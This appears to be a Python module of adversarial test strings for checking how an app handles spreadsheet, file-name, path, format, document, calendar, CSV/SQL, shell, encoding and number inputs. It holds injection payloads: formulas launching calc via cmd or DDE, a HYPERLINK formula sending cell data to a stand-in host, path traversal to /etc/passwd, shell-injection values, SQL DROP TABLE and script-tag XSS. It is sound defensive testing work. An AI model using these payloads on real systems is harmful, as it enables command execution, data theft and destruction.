"""Text that means something to what reads it: a spreadsheet, a file system, a parser, a shell, us."""

from __future__ import annotations

from collections.abc import Iterator


def formulas() -> Iterator[str]:
    for sign in ("=", "+", "-", "@", "\t=", "\r=", " =", "'=", "＝", "＋", "－", "＠", "\n="):
        yield f"{sign}1+1"
        yield f"{sign}cmd|'/C calc'!A0"
    yield from (
        '=HYPERLINK("http://x/?"&A1;"klik")', "=SOM(A1:A9)", "@SUM(1)", "-", "--", "+", "=", "@", "-2+3",
        "+31612345678", '=WEBSERVICE("http://x")', "=IMPORTXML(A1)", '=DDE("cmd";"/C calc")', "%0A=1+1",
        ";=1+1", ",=1+1", '"=1+1"',
    )  # fmt: skip


def paths() -> Iterator[str]:
    for up in (
        "../", "..\\", "..%2f", "....//", "/", "\\\\server\\", "~/", "~root/", "~niemand/", "file:///",
        "C:\\", "C:",
    ):  # fmt: skip
        yield f"{up}etc{up}passwd"
    yield from (
        "..", ".", "../..", "/etc/passwd", "/dev/null", "~", "~niemand", "~\x00", "\\\\.\\pipe\\x",
        "\\\\?\\C:\\x", "/proc/self/environ", "/" * 50, "a/" * 300, ("n" * 300) + "/x", "x" * 5000 + ".csv",
        "-rf", "--help", "--data", "--json", "-", "$HOME", "%USERPROFILE%", "./-x",
    )  # fmt: skip


def file_names() -> Iterator[str]:
    for name in ("CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "COM¹", "CONIN$", "CONOUT$", "CLOCK$"):
        yield from (name.lower(), f"{name} .txt", f"{name}.", f"{name}:x")
    yield from (
        "naam.", "naam ", "naam...", "naam . .", " naam", ".naam", "a:b", "a:b:$DATA", "a*b", "a?b", 'a"b',
        "a<b>c", "a|b", "a\\b", "a/b", "desktop.ini", ".htaccess", "foto\u202egpj.exe", "a\nb", "é",
        "e\u0301", "naam.md", "naam.md.", "NAAM", "...", "   ", "~$doc.docx",
    )  # fmt: skip


def formats() -> Iterator[str]:
    yield from (
        "{", "}", "{}", "{0}", "{name}", "{name!r}", "{0.__class__}", "{t.language}", "{:>9999999}", "{{",
        "{count}", "{name:{x}}", "%", "%s", "%n", "%d%d%d", "%(name)s", "%%", "%1$s", "%99999999d", "$name",
        "${name}", "$$", "${7*7}", "{{7*7}}", "#{7*7}", "<%= 7 %>", "\\n", "\\x1b[31m", "\\u001b", "\\0",
        "\\", "\\\\", "\\N{BELL}", "&#27;", "&lt;", "&amp;amp;", "%1b%5b31m", "=?utf-8?Q?=1B?=",
    )  # fmt: skip


def documents() -> Iterator[str]:
    """Markdown, HTML, XML, TOML, gettext."""
    for sign in (
        "#", "##", "-", "*", "+", ">", "1.", "12)", "```", "~~~", "===", "---", "    ", "|", "[^1]:",
        ":::", "\\", "- [ ]",
    ):  # fmt: skip
        yield f"{sign} kop\n{sign}"
    yield from (
        "**vet** _schuin_ ~~weg~~ $x^2$", "`code` ```` blok", "[klik](javascript:alert(1))", "![beeld](x)",
        "<http://x>", "a  \nb", "a\\\nb", "kop #", "kop ##",
        "https://example.org www.example.org a@example.org", "<script>alert(1)</script>", "<!-- weg -->",
        "<b>", "</p>", "<img src=x onerror=y>", "<![CDATA[", "]]>", '"""', "'''", 'x = "y"', "[[holidays]]",
        "# opmerking", "\\u0000", 'msgid ""', 'msgstr "x"', "#, fuzzy", "<?xml?>",
        "<!DOCTYPE x [<!ENTITY y 'z'>]>", "&y;", "_x001B_",
    )  # fmt: skip


def calendars() -> Iterator[str]:
    lines = (
        "BEGIN:VEVENT", "END:VEVENT", "END:VCALENDAR", "BEGIN:VALARM\nACTION:AUDIO",
        "ATTENDEE:mailto:x@y", "RRULE:FREQ=DAILY", "URL:http://x",
    )  # fmt: skip
    for line in lines:
        yield line
        yield f"x\r\n{line}\r\n"
        yield f"x\\n{line}"
    yield from (
        "x\r\n y", "a;b,c:d\\e", "\\;\\,\\n\\N", "SUMMARY;LANGUAGE=nl:x", "^n^'^^", '"a";b="c"',
        "x\u2028END:VEVENT", "x\x85END:VEVENT", "=0D=0AEND:VEVENT",
    )  # fmt: skip


def tables() -> Iterator[str]:
    """JSON, CSV, SQL."""
    yield from (
        '{"a":1}', '"', '""', '"""', '"a', 'a"', 'a""b', '"a;b";c', ";", ",", "\t", "|", ";;;", ",,,", "a;b",
        "a,b", "a|b", "sep=;", "'", "''", "null", "\\u0022", '","b":"', "]}", "//", "/* */",
        "'; DROP TABLE talks; --", "1; SELECT", "a\\", '\\"', '\\";', "x;\ny", '"x\ny"', 'open " aanhaling',
        "a\x00;b", "Roepnaam", "Naam;Datum", "#", "N/A",
    )  # fmt: skip


def shells() -> Iterator[str]:
    yield from (
        "$(touch x)", "`touch x`", "; touch x", "| touch x", "&& touch x", "> x", "< /etc/passwd", "!!",
        "!x", "! ", "*", "?", "~", "a & b", "'; touch x; '", '"; touch x; "', "\n touch x", "%COMSPEC%",
        "^&", "@echo off", "@bestand", "--%", "${IFS}",
    )  # fmt: skip


def encodings() -> Iterator[str]:
    """What is left when letters were read in the wrong encoding."""
    for name in ("Yıldız", "café", "Wójcik", "“hoi”", "€ 5", "naïef – ja"):
        yield name.encode().decode("cp1252", "replace")
        yield name.encode().decode("latin-1")
    yield from (
        "\x80\x82\x91\x92\x93\x94\x96", "ï»¿merk", "Ã©Ã«", "�", "?????", "+AD0-1+AD0-", "\x1b$B",
        "\x0fshift\x0e", "ÿþa",
    )  # fmt: skip


def numbers() -> Iterator[str]:
    yield from (
        "٠٣", "१२", "³", "½", "⑦", "Ⅻ", "一二", "-0", "1e999", "1e308", "0x1f", "NaN", "Infinity", "9" * 400,
        "9" * 5000, "1_000", "0.1.2", "-1", "0", "١٢:٣٠", "99:99", "25:61", "24:00", "31-02-2027",
        "0-0-0000", "12-13-14", "1-1-1", "29 feb 2027", "99999", "00000", "0000-00-00", "9999-12-31",
        "0001-01-01", "0001-01-01T00:00", "9999-12-31T23:59",
        "+1 -1", "２０２６-０８-２５", "13:00:00.0000000",
    )  # fmt: skip


def own() -> Iterator[str]:
    """What means something to this program."""
    yield from (
        "!", "! ", "!!bellen", "! afspraak", "bellen 12 nov: hoe gaat het", "huisbezoek", "bellen als nodig",
        "mail elke maandag", "nvt", "nee", "ja", "-: x", ": ", "bellen:", ":12:", "12-11, bellen",
        "volgende week", "rapport 1", "13:00 Liv Bosman, Mark", "13:00", "13:00 ,", "later", "geen", "j",
        "y", "n", "0", "startgesprek", "bellen " * 20, "week 99", "bellen 12 nov 25:00", "12/13/14 15:16",
    )  # fmt: skip
